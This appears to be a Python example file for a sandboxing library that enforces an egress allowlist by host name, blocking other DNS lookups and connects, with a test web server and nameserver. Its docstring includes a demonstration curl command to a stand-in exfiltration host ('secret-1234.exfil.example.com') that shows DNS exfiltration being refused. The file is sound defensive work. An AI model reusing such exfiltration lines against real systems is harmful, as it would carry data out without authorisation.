"""Egress by name: the program may reach the listed names (and addresses) on their ports, nothing else.

A lookup of a listed name is made by the master (`/etc/hosts`, then the
nameservers), which remembers what it answered; a `connect` is granted only
to an address the master returned for a listed name, on that name's port,
while the answer is valid (the record's TTL) — not to a neighbour in the
same network, not to an address the program found some other way. The
master then connects a socket of its own, which replaces the program's (same
descriptor number): so it works even when the program is sandboxed without
a network. A lookup of any other name fails (`EAI_NONAME`) and **no
nameserver is asked**: a sandboxed program cannot carry data out in the
names it looks up (`secret-1234.exfil.example.com`). Any other `connect`
fails with `ECONNREFUSED`, listening (`bind`) and unix sockets with
`EACCES`. Filesystem calls are forwarded: the program does them itself
(under `--sandbox`, only in the system directories the sandbox lists).

The allowlist is `$LIBC_SERVICE_ALLOW`: entries separated by spaces or
commas, each `NAME:PORT` with `NAME` a host name or `*.` and one (the names
below it), or `ADDRESS:PORT`, `[IPV6]:PORT`, `NETWORK/LEN:*` (`*`: any
port). It defaults to `index.example.test:8080`. `$LIBC_SERVICE_NAMESERVERS`
names the nameservers (`127.0.0.1:5353 …`; default: `/etc/resolv.conf`'s).

Run it: `python3 examples/net_allowlist.py serve -- CMD` starts a test web
server on 127.0.0.1:8080 and a nameserver on 127.0.0.1 that answers
`index.example.test` with 127.0.0.1, runs CMD with
`$LIBC_SERVICE_NAMESERVERS` naming it, stops both, prints which names the
nameserver was asked for, and exits with CMD's status (`--port`, `--name`
and `--directory` change what is served). The first command reaches the
server by name; the second is refused, though it is the same address (the
master did not return it for a listed name); the third cannot even resolve
its name, and the nameserver never hears of it.

    python3 examples/net_allowlist.py serve -- libc-service run --sandbox examples/net_allowlist.py -- curl -sS http://index.example.test:8080/
    python3 examples/net_allowlist.py serve -- libc-service run --sandbox examples/net_allowlist.py -- sh -c 'curl -sS http://127.0.0.1:8080/ || echo "127.0.0.1 was never returned for a listed name"'
    python3 examples/net_allowlist.py serve -- libc-service run --sandbox examples/net_allowlist.py -- sh -c 'curl -sS http://secret-1234.exfil.example.com:8080/ || echo "no such name, and no nameserver was asked"'
    LIBC_SERVICE_ALLOW='*.python.org:443 pypi.org:443 [::1]:8080' libc-service docs examples/net_allowlist.py

Limits: what remains of DNS as a channel is in `docs/security.md` ("Egress
by name"); a program that resolves by itself (a static binary under
`--seccomp`) gets no answer: its own queries are connects to the nameserver,
which no listed name returned (`libc_service.policy.dnsanswer` can answer them).
"""

from __future__ import annotations

import argparse
import asyncio
import errno
import ipaddress
import os
import sys
from collections.abc import Sequence
from typing import Any

from libc_service import Errno, FORWARD, GaiError, Resolver, Router, Sandbox, perform
from libc_service.conditions import named, resolved, to
from libc_service.requests import (
    BindInet6Request,
    BindInetRequest,
    BindUnixRequest,
    ConnectInet6Request,
    ConnectInetRequest,
    ConnectUnixRequest,
    GetaddrinfoRequest,
)

#: What a program may reach: name or address, and port.
ALLOWED = tuple(os.environ.get("LIBC_SERVICE_ALLOW", "index.example.test:8080").replace(",", " ").split())
#: The nameservers the master asks (None: the system's).
NAMESERVERS = os.environ.get("LIBC_SERVICE_NAMESERVERS", "").replace(",", " ").split() or None


def _split(entries: Sequence[str]) -> tuple[dict[int | None, list[str]], list[str]]:
    """The entries as name patterns by port, and address endpoints (what `to()` reads)."""
    names: dict[int | None, list[str]] = {}
    addresses: list[str] = []
    for entry in entries:
        host, _, port = entry.rpartition(":")
        try:
            ipaddress.ip_network(host.strip("[]"), strict=False)
        except ValueError:
            names.setdefault(None if port == "*" else int(port), []).append(host)
        else:
            addresses.append(entry)
    return names, addresses


NAMES, ADDRESSES = _split(ALLOWED)

router = Router(default=FORWARD, timeout=10.0, resolver=Resolver(NAMESERVERS))

#: The system directories a sandboxed program may use by itself; no network.
sandbox = Sandbox(
    allow_exec=["/usr", "/bin", "/lib", "/lib64"],
    allow_read=["/etc"],
    allow_write=["/dev/null"],
    network=False,
)

CONNECTS = ("connect_inet", "connect_inet6")


def connect_allowed(request: ConnectInetRequest | ConnectInet6Request) -> Any:
    """The master connects a socket of its own, which replaces the program's.

    A refused or unreachable endpoint gives the program the errno the master got.
    """
    return perform(request)


def resolve_allowed(request: GetaddrinfoRequest) -> Any:
    """A listed name: the master resolves it and remembers the answer for the connect that follows."""
    return perform(request)


if NAMES:
    router.add_route(("getaddrinfo",), resolve_allowed, when=named(*(n for group in NAMES.values() for n in group)))
    for port, patterns in NAMES.items():
        router.add_route(CONNECTS, connect_allowed, when=resolved(*patterns, ports=None if port is None else [port]))
if ADDRESSES:
    router.add_route(CONNECTS, connect_allowed, when=to(*ADDRESSES))


@router.on("getaddrinfo")
def no_other_names(request: GetaddrinfoRequest) -> GaiError:
    """Any other name does not exist, and no nameserver is asked about it."""
    return "noname"


@router.on(*CONNECTS)
def refuse_other_connects(request: ConnectInetRequest | ConnectInet6Request) -> int:
    """Every other address or port is refused with `ECONNREFUSED`."""
    raise Errno(errno.ECONNREFUSED)


@router.on("bind_inet", "bind_inet6", "connect_unix", "bind_unix")
def refuse_listening_and_local(
    request: BindInetRequest | BindInet6Request | ConnectUnixRequest | BindUnixRequest,
) -> int:
    """No listening sockets and no unix sockets (local daemons): `EACCES`."""
    raise Errno(errno.EACCES)


# ------------------------------------------------------------ the test servers

#: Where `serve` listens: the allowlist's default endpoint.
TEST_HOST, TEST_PORT, TEST_NAME = "127.0.0.1", 8080, "index.example.test"


async def _answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answer one HTTP request with a line of text, whatever was asked."""
    try:
        async with asyncio.timeout(5):
            while (await reader.readline()).strip():  # the request line and headers, up to the blank line
                pass
        host, port = writer.get_extra_info("sockname")[:2]
        body = f"hello from the test server on {host}:{port}\n".encode()
        head = f"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {len(body)}\r\n\r\n"
        writer.write(head.encode() + body)
        await writer.drain()
    except (TimeoutError, OSError):
        pass
    finally:
        writer.close()


class Nameserver(asyncio.DatagramProtocol):
    """Answers `name` (A: 127.0.0.1) and nothing else (NXDOMAIN); keeps every name it was asked for."""

    def __init__(self, name: str) -> None:
        self.name = name.lower().rstrip(".")
        self.asked: list[str] = []
        self.transport: Any = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport

    def datagram_received(self, data: bytes, addr: Any) -> None:
        import dns.message
        import dns.rcode
        import dns.rdatatype
        import dns.rrset

        try:
            query = dns.message.from_wire(data)
        except Exception:  # noqa: BLE001 - not a question: no answer
            return
        response = dns.message.make_response(query)
        for question in query.question:
            asked = question.name.to_text(omit_final_dot=True).lower()
            self.asked.append(asked)
            if asked != self.name:
                response.set_rcode(dns.rcode.NXDOMAIN)
            elif question.rdtype == dns.rdatatype.A:
                response.answer.append(dns.rrset.from_text(question.name, 60, "IN", "A", TEST_HOST))
        self.transport.sendto(response.to_wire(), addr)


async def serve(port: int, name: str, directory: str | None, command: Sequence[str]) -> int:
    """Serve HTTP on 127.0.0.1:`port` and `name` by DNS while `command` runs (forever without one).

    Starting the servers and the program in one command means the documented
    commands need no second terminal and leave no server behind.
    """
    loop = asyncio.get_running_loop()
    if directory is None:
        server: Any = await asyncio.start_server(_answer, TEST_HOST, port)
    else:
        server = await _file_server(directory, port)
    transport, nameserver = await loop.create_datagram_endpoint(lambda: Nameserver(name), local_addr=(TEST_HOST, 0))
    env = dict(os.environ)
    env.setdefault("LIBC_SERVICE_NAMESERVERS", "%s:%d" % transport.get_extra_info("sockname")[:2])
    try:
        if not command:
            await asyncio.Event().wait()
        process = await asyncio.create_subprocess_exec(*command, env=env)
        return await process.wait()
    finally:
        server.close()
        transport.close()
        asked = ", ".join(dict.fromkeys(nameserver.asked)) or "nothing"
        print(f"net_allowlist.py: the nameserver was asked for: {asked}", file=sys.stderr)


async def _file_server(directory: str, port: int) -> Any:
    """A static file server over `directory` (a package index, for instance), on a thread."""
    import functools
    import http.server
    import threading

    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=directory)
    httpd = http.server.ThreadingHTTPServer((TEST_HOST, port), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()

    class Stop:
        def close(self) -> None:
            httpd.shutdown()
            httpd.server_close()

    return Stop()


def main(args: Sequence[str] | None = None) -> int:
    """`serve [--port PORT] [--name NAME] [--directory DIR] [-- CMD [ARG...]]`: the test servers."""
    args = list(sys.argv[1:] if args is None else args)
    command: list[str] = []
    if "--" in args:
        command = args[args.index("--") + 1 :]
        args = args[: args.index("--")]
    parser = argparse.ArgumentParser(prog="net_allowlist.py", description=main.__doc__)
    parser.add_argument("action", choices=["serve"])
    parser.add_argument("--port", type=int, default=TEST_PORT, help=f"port on {TEST_HOST} (default {TEST_PORT})")
    parser.add_argument("--name", default=TEST_NAME, help=f"the name the nameserver answers (default {TEST_NAME})")
    parser.add_argument("--directory", help="serve the files of DIR (default: a line of text for every request)")
    options = parser.parse_args(args)
    try:
        return asyncio.run(serve(options.port, options.name, options.directory, command))
    except KeyboardInterrupt:
        return 130
    except OSError as exc:  # the port is taken, or the command cannot be started
        print(f"net_allowlist.py: {exc}", file=sys.stderr)
        return 1


if __name__ == "__main__":
    sys.exit(main())
